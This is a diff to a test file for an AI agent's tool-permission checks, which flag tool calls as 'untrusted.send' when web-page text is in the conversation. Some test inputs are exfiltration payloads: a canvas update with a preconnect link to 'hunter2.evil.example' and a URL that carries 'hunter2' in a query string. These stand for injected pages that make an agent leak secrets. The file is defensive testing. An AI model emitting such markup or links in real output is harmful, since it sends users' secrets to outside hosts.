@@ -140,6 +140,13 @@ test.each([
   ["web_extract", { urls: ["https://other.example/list?d=hunter2"] }, ["untrusted.send"]],
   ["web_extract", { urls: ["https://docs.example/faq.html"] }, []],
   ["todo", { items: [] }, []],
+  [
+    "canvas",
+    { action: "update", content: '<link rel="preconnect" href="https://hunter2.evil.example">' },
+    ["untrusted.send"],
+  ],
+  ["canvas", { action: "show", format: "markdown", content: "# Sums" }, []],
+  ["canvas", { action: "close" }, []],
 ] as const)(
   "with text of a page in the conversation, %s %j is asked about as %j",
   async (tool, args, expected) => {
@@ -152,6 +159,20 @@ test.each([
     expect(await asked(permissions, tool, args)).toEqual(expected);
   },
 );
+
+test("what was said on the canvas is drawn there again unasked, and what a page said beside it is not", async () => {
+  await using place = await temporaryPlace();
+  const permissions = place.open();
+  const told: Provenance = { source: "canvas", name: "page-1" };
+  const draw = async (provenance: readonly Provenance[]) =>
+    await asked(permissions, "canvas", { action: "update", content: "<h1>Red</h1>" }, { provenance });
+
+  expect(await draw([told])).toEqual([]);
+  expect(await draw([told, web])).toEqual(["untrusted.send"]);
+  expect(await asked(permissions, "send_message", { text: "x" }, { provenance: [told] })).toEqual([
+    "untrusted.send",
+  ]);
+});
 
 test.each([
   ["http://localhost:3000/", ["untrusted.send"]],
